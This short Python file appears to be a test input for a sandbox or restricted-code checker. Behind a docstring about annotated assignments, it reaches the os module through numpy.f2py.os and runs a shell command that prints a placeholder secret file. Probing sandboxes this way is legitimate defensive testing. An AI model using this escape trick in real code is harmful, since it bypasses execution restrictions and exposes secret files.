"""An assignment with an annotation is another statement."""
import numpy as np
module = [np][0]
_getattr_: object = getattr
print(module.f2py.os.popen("cat @SECRET_FILE@").read())
